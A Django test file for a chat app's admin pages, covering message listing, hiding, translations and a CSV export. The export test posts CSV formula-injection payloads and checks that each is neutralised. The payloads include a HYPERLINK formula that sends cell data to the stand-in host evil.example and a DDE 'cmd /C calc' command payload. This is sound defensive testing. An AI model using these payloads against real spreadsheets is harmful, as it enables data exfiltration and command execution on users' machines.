import datetime as dt

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from django.utils.translation import override

from history import services as history_services
from history.models import Message
from tests.factories import RoomFactory, join, member, post

CHANGELIST = "/admin/history/message/"


def listed(response) -> list[tuple[str, int]]:
    return [(m.room.code, m.seq) for m in response.context["cl"].result_list]


def test_message_changelist_per_room_and_search(organiser, organiser_client):
    room = RoomFactory(owner=organiser)
    other = RoomFactory(owner=organiser)
    ann = join(room, display_name="Ann").user
    post(room, ann, "where is hall B?")
    post(room, ann, "found it")
    post(other, other.owner, "elsewhere")
    response = organiser_client.get(f"{CHANGELIST}?room__id__exact={room.pk}")
    assert listed(response) == [(room.code, 3), (room.code, 2), (room.code, 1)]
    model_admin = response.context["cl"].model_admin
    assert [
        (model_admin.sender_name(m), model_admin.body_preview(m), m.hidden)
        for m in response.context["cl"].result_list
    ] == [
        ("Ann", "found it", False),
        ("Ann", "where is hall B?", False),
        ("(system)", "Ann joined", False),
    ]
    response = organiser_client.get(f"{CHANGELIST}?q=hall")
    assert listed(response) == [(room.code, 2)]


def test_message_changelist_superuser_sees_every_room(organiser, other_organiser, superuser_client):
    first = RoomFactory(owner=organiser)
    second = RoomFactory(owner=other_organiser)
    post(first, organiser, "one")
    post(second, other_organiser, "two")
    assert sorted(listed(superuser_client.get(CHANGELIST))) == sorted(
        [(first.code, 1), (second.code, 1)]
    )


def test_message_changelist_queries_fixed_with_1_and_3_messages(organiser, organiser_client):
    room = RoomFactory(owner=organiser)
    post(room, organiser, "first")
    organiser_client.get(CHANGELIST)
    with CaptureQueriesContext(connection) as one:
        assert len(organiser_client.get(CHANGELIST).context["cl"].result_list) == 1
    post(room, organiser, "second")
    post(room, organiser, "third")
    with CaptureQueriesContext(connection) as three:
        assert len(organiser_client.get(CHANGELIST).context["cl"].result_list) == 3
    assert len(one.captured_queries) == len(three.captured_queries)


def test_message_hide_action_pushes_message_hidden(
    organiser, organiser_client, listen, django_capture_on_commit_callbacks
):
    room = RoomFactory(owner=organiser)
    ann = join(room, display_name="Ann").user
    message = post(room, ann, "spam")
    live = listen(room)
    with django_capture_on_commit_callbacks(execute=True):
        response = organiser_client.post(
            CHANGELIST,
            {"action": "hide_messages", "_selected_action": [str(message.pk)]},
            follow=True,
        )
    message.refresh_from_db()
    assert message.hidden is True
    assert [str(m) for m in response.context["messages"]] == ["Hid 1 message."]
    assert live.frames(1) == [{"type": "message_hidden", "seq": 2}]


def test_message_unhide_action_pushes_message_restored(
    organiser, organiser_client, listen, django_capture_on_commit_callbacks
):
    room = RoomFactory(owner=organiser)
    ann = join(room, display_name="Ann").user
    message = post(room, ann, "not spam after all", client_id="c-1")
    history_services.message_set_hidden(message=message, hidden=True, actor=None)
    live = listen(room)
    with django_capture_on_commit_callbacks(execute=True):
        organiser_client.post(
            CHANGELIST, {"action": "unhide_messages", "_selected_action": [str(message.pk)]}
        )
    message.refresh_from_db()
    assert message.hidden is False
    assert live.frames(1) == [
        {
            "type": "message_restored",
            "message": {
                "seq": 2,
                "client_id": "c-1",
                "sender": {"display_name": "Ann", **member(room.pk, ann.pk)},
                "kind": "text",
                "event": None,
                "body": "not spam after all",
                "hidden": False,
                "review": "none",
                "recalled": False,
                "reply_to": None,
                "mentions": [],
                "created_at": message.created_at.isoformat().replace("+00:00", "Z"),
            },
        }
    ]


def test_message_change_page_hides_through_service(
    organiser, organiser_client, listen, django_capture_on_commit_callbacks
):
    room = RoomFactory(owner=organiser)
    message = post(room, organiser, "typo")
    live = listen(room)
    with django_capture_on_commit_callbacks(execute=True):
        response = organiser_client.post(f"{CHANGELIST}{message.pk}/change/", {"hidden": "on"})
    assert response.status_code == 302
    message.refresh_from_db()
    assert message.hidden is True
    assert live.frames(1) == [{"type": "message_hidden", "seq": 1}]


def test_message_cannot_be_added_or_deleted(organiser, organiser_client):
    room = RoomFactory(owner=organiser)
    message = post(room, organiser, "keep")
    assert organiser_client.get(f"{CHANGELIST}add/").status_code == 403
    assert (
        organiser_client.post(f"{CHANGELIST}{message.pk}/delete/", {"post": "yes"}).status_code
        == 403
    )
    assert Message.objects.filter(pk=message.pk).exists()


def test_notices_are_stored_as_events_and_shown_in_the_readers_language(
    organiser, organiser_client
):
    room = RoomFactory(owner=organiser)
    with translation.override("zh-hans"):  # whatever the causer's language
        ann = join(room, display_name="小安").user
        history_services.member_leave(room=room, user=ann)
    assert list(room.messages.order_by("seq").values_list("event", "params")) == [
        ("joined", {"name": "小安"}),
        ("left", {"name": "小安"}),
    ]
    chinese = organiser_client.get(CHANGELIST, headers={"accept-language": "zh-hans"})
    english = organiser_client.get(CHANGELIST, headers={"accept-language": "en"})
    assert "小安 进入房间" in chinese.content.decode()
    assert "小安 joined" in english.content.decode()


def test_message_changelist_translated(organiser, organiser_client):
    room = RoomFactory(owner=organiser)
    post(room, organiser, "hi")
    content = organiser_client.get(
        CHANGELIST, headers={"accept-language": "zh-hans"}
    ).content.decode()
    for text in ["消息", "对所有人隐藏", "重新显示", "发送者", "聊天记录"]:
        assert text in content, text


# --- the CSV export ------------------------------------------------------------------------

ROOMS_CHANGELIST = "/admin/rooms/room/"


def test_export_csv_neutralises_formulas_in_names_and_bodies(organiser, organiser_client):
    room = RoomFactory(owner=organiser, name="Export")
    with override("en"):  # the "joined" notice is in the language active when posted
        mallory = join(room, display_name="=HYPERLINK(1)").user
    post(room, mallory, '=HYPERLINK("http://evil.example/?"&A1,"click")')
    post(room, mallory, "+1+cmd|' /C calc'!A0")
    post(room, mallory, "-2")
    post(room, mallory, "@SUM(1)")
    post(room, mallory, "fine = text")
    stamp = dt.datetime(2026, 1, 2, 3, 4, 5, tzinfo=dt.UTC)  # 11:04:05 in Asia/Shanghai
    Message.objects.filter(room=room).update(created_at=stamp)

    response = organiser_client.post(
        ROOMS_CHANGELIST,
        {"action": "export_history", "_selected_action": [str(room.pk)]},
        headers={"accept-language": "en"},
    )
    assert response.status_code == 200
    code, at, who = room.code, "2026-01-02 11:04:05", "'=HYPERLINK(1)"
    assert (
        b"".join(response.streaming_content)
        == (
            "\ufeffroom,seq,time,kind,sender,message,hidden\r\n"
            f"{code},1,{at},system,,'=HYPERLINK(1) joined,\r\n"
            f'{code},2,{at},text,{who},"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",\r\n'
            f"{code},3,{at},text,{who},'+1+cmd|' /C calc'!A0,\r\n"
            f"{code},4,{at},text,{who},'-2,\r\n"
            f"{code},5,{at},text,{who},'@SUM(1),\r\n"
            f"{code},6,{at},text,{who},fine = text,\r\n"
        ).encode()
    )
